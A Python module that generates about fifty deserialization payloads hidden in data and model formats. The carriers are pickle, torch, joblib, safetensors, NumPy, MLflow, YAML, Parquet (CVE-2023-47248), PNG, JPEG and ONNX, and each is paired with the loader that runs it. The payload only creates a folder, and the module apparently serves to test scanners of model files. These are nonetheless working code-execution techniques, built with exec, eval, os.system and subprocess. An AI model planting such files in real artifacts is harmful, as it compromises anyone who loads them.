"Fifty ways to carry a program in a file that passes for data. Each makes a folder when it is run, so that one can see it; each comes with what would run it."
import base64
import bz2
import functools
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import cloudpickle
import joblib
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import torch
import yaml
from onnx import load_model_from_string
from PIL import Image, PngImagePlugin
from safetensors.numpy import load as load_tensors
from safetensors.numpy import save as save_tensors
from serve_toy import make_graph, photograph

TENSOR = {"w": np.zeros(4, np.float32)}


class Call:
    "An object whose reading calls a function."
    def __init__(self, function, *args): self.called = function, args
    def __reduce__(self): return self.called


def strike(path): return Call(os.mkdir, path)
def write(path): return f"__import__('os').mkdir({path!r})"
def dump(path, protocol=4): return pickle.dumps(strike(path), protocol)
def encode(path): return base64.b64encode(dump(path)).decode()


def save_torch(path, **options):
    out = io.BytesIO()
    torch.save({"epoch": 3, "state_dict": {"w": torch.zeros(4)}, "callbacks": strike(path)}, out, **options)
    return out.getvalue()


def save_joblib(path, compress=0):
    out = io.BytesIO()
    joblib.dump({"model": strike(path), "w": np.zeros(9)}, out, compress=compress)
    return out.getvalue()


def save_arrays(path, save, *names):
    out, value = io.BytesIO(), np.array([strike(path)], object)
    save(out, **dict.fromkeys(names, value)) if names else save(out, value)
    return out.getvalue()


def pack(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items(): archive.writestr(name, data)
    return out.getvalue()


def pack_tar(name, data, mode="w:gz"):
    out, entry = io.BytesIO(), tarfile.TarInfo(name)
    entry.size = len(data)
    with tarfile.open(fileobj=out, mode=mode) as archive: archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def unpack(data): return zipfile.ZipFile(io.BytesIO(data)).read(zipfile.ZipFile(io.BytesIO(data)).namelist()[-1])
def unpack_tar(data): archive = tarfile.open(fileobj=io.BytesIO(data)); return archive.extractfile(archive.getmembers()[0]).read()


def write_flavour(flavour, key, name, data):
    "A model as MLflow keeps it, in a zip."
    told = {"artifact_path": "model", "flavors": {flavour: {key: name}, "python_function": {"loader_module": f"mlflow.{flavour}", "model_path": name}}, "mlflow_version": "3.1.0"}
    return pack({"MLmodel": yaml.safe_dump(told), name: data})


def write_parquet(path):
    "A column whose extension type older versions of Arrow read with pickle (CVE-2023-47248)."
    told = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": dump(path)}
    table = pa.table([pa.array([1, 2, 3])], schema=pa.schema([pa.field("file", pa.int64(), metadata=told)]))
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def write_png(path):
    out, text = io.BytesIO(), PngImagePlugin.PngInfo()
    text.add_text("model", encode(path), zip=True)
    Image.open(io.BytesIO(photograph(kind="PNG"))).save(out, "PNG", pnginfo=text)
    return out.getvalue()


def write_onnx(path):
    graph = make_graph()
    entry = graph.metadata_props.add()
    entry.key, entry.value = "preprocessor", encode(path)
    return graph.SerializeToString()


def join_header(path): head = json.dumps({"__metadata__": {"model": encode(path)}}).encode(); return struct.pack("<Q", len(head)) + head
def read_text(text): return pickle.loads(base64.b64decode(text))
def read_torch(data): return torch.load(io.BytesIO(data), weights_only=False)
def read_joblib(data): return joblib.load(io.BytesIO(data))
def read_npz(data): return np.load(io.BytesIO(data), allow_pickle=True)["a"]
def read_parquet(data): return pickle.loads(pq.read_schema(io.BytesIO(data)).field(0).metadata[b"ARROW:extension:metadata"])
def read_header(data): return read_text(json.loads(data[8:8 + struct.unpack("<Q", data[:8])[0]])["__metadata__"]["model"])
def read_onnx(data): return read_text(load_model_from_string(data).metadata_props[0].value)


def by_value(path): return pickle.loads(cloudpickle.dumps(lambda: os.mkdir(path)))
def with_code(path): return Call(exec, Call(marshal.loads, marshal.dumps(compile(write(path), "code", "exec"))))


Form = tuple[str, Callable, Callable]      # ending, path → bytes, what would run it
FORMS: dict[str, Form] = {
    **{f"pickle, protocol {k}": (".pkl", functools.partial(dump, protocol=k), pickle.loads) for k in range(6)},
    "pickle of exec": (".pickle", lambda path: pickle.dumps(Call(exec, write(path))), pickle.loads),
    "pickle of eval": (".pkl", lambda path: pickle.dumps(Call(eval, write(path))), pickle.loads),
    "pickle of os.system": (".pkl", lambda path: pickle.dumps(Call(os.system, f"mkdir '{path}'")), pickle.loads),
    "pickle of Popen": (".pk", lambda path: pickle.dumps(Call(subprocess.check_call, ["mkdir", path])), pickle.loads),
    "pickle of code": (".pkl", lambda path: pickle.dumps(with_code(path)), pickle.loads),
    "pickle of a partial": (".pkl", lambda path: pickle.dumps(Call(functools.partial(os.mkdir, path))), pickle.loads),
    "pickle in text": (".txt", lambda path: b"cposix\nmkdir\n(V" + path.encode("raw-unicode-escape") + b"\ntR.", pickle.loads),
    "pickle with a tail": (".bin", lambda path: dump(path) + bytes(900), pickle.loads),
    "cloudpickle, a function by value": (".pkl", lambda path: cloudpickle.dumps(Call(by_value(path))), pickle.loads),
    "torch": (".pt", save_torch, read_torch), "torch, old": (".pth", lambda path: save_torch(path, _use_new_zipfile_serialization=False), read_torch),
    "torch, first protocol": (".bin", lambda path: save_torch(path, pickle_protocol=3), read_torch), "torch, a checkpoint": (".ckpt", save_torch, read_torch),
    "torch as safetensors": (".safetensors", save_torch, read_torch), "pickle as safetensors": (".safetensors", dump, pickle.loads),
    "safetensors with a pickle for a tensor": (".safetensors", lambda path: save_tensors({"w": np.frombuffer(dump(path), np.uint8)}), lambda data: pickle.loads(load_tensors(data)["w"].tobytes())),
    "safetensors with a pickle in its metadata": (".safetensors", lambda path: save_tensors(TENSOR, {"model": encode(path)}), read_header),
    "safetensors, header alone": (".safetensors", join_header, read_header),
    "joblib": (".joblib", save_joblib, read_joblib),
    **{f"joblib, {kind}": (".joblib", functools.partial(save_joblib, compress=(kind, 3)), read_joblib) for kind in ("zlib", "gzip", "bz2", "lzma", "xz")},
    "npy with objects": (".npy", lambda path: save_arrays(path, np.save), lambda data: np.load(io.BytesIO(data), allow_pickle=True)),
    "npz with objects": (".npz", lambda path: save_arrays(path, np.savez, "a", "b"), read_npz), "npz with objects, compressed": (".npz", lambda path: save_arrays(path, np.savez_compressed, "a"), read_npz),
    "gzip": (".pkl.gz", lambda path: gzip.compress(dump(path)), lambda data: pickle.loads(gzip.decompress(data))), "bzip2": (".pkl.bz2", lambda path: bz2.compress(dump(path)), lambda data: pickle.loads(bz2.decompress(data))),
    "xz": (".pkl.xz", lambda path: lzma.compress(dump(path)), lambda data: pickle.loads(lzma.decompress(data))),
    "zip": (".zip", lambda path: pack({"tea/0.pkl": dump(path)}), lambda data: pickle.loads(unpack(data))), "zip in zip": (".zip", lambda path: pack({"tea/0.zip": pack({"data.pkl": dump(path)})}), lambda data: pickle.loads(unpack(unpack(data)))),
    "zip in zip in zip": (".zip", lambda path: pack({"a.zip": pack({"b.zip": pack({"c.jpg": dump(path)})})}), lambda data: pickle.loads(unpack(unpack(unpack(data))))),
    "tar": (".tar.gz", lambda path: pack_tar("tea/0.pkl", dump(path)), lambda data: pickle.loads(unpack_tar(data))), "torch in a tar": (".tar", lambda path: pack_tar("tea/0.pt", save_torch(path), "w"), lambda data: read_torch(unpack_tar(data))),
    "MLmodel of sklearn": (".zip", lambda path: write_flavour("sklearn", "pickled_model", "model.pkl", dump(path)), lambda data: pickle.loads(unpack(data))),
    "MLmodel of a Python function": (".zip", lambda path: write_flavour("pyfunc", "python_model", "python_model.pkl", cloudpickle.dumps(strike(path))), lambda data: pickle.loads(unpack(data))),
    "MLmodel of PyTorch": (".zip", lambda path: write_flavour("pytorch", "model_data", "data/model.pth", save_torch(path)), lambda data: read_torch(unpack(data))),
    "MLmodel of LightGBM": (".zip", lambda path: write_flavour("lightgbm", "data", "model.joblib", save_joblib(path)), lambda data: read_joblib(unpack(data))),
    "YAML": (".yaml", lambda path: f"names: !!python/object/apply:os.mkdir [{path!r}]\n".encode(), yaml.unsafe_load),
    "Parquet with a type of Python": (".parquet", write_parquet, read_parquet), "JPEG with a tail": (".jpg", lambda path: photograph() + dump(path), lambda data: pickle.loads(data[data.rindex(b"\x80\x04\x95"):])),
    "PNG with a text": (".png", write_png, lambda data: read_text(Image.open(io.BytesIO(data)).text["model"])),
    "ONNX with a property": (".onnx", write_onnx, read_onnx),
}


def arm(name: str, path: Path) -> bytes:
    "The bytes of a form that would make `path`."
    return FORMS[name][1](str(path))
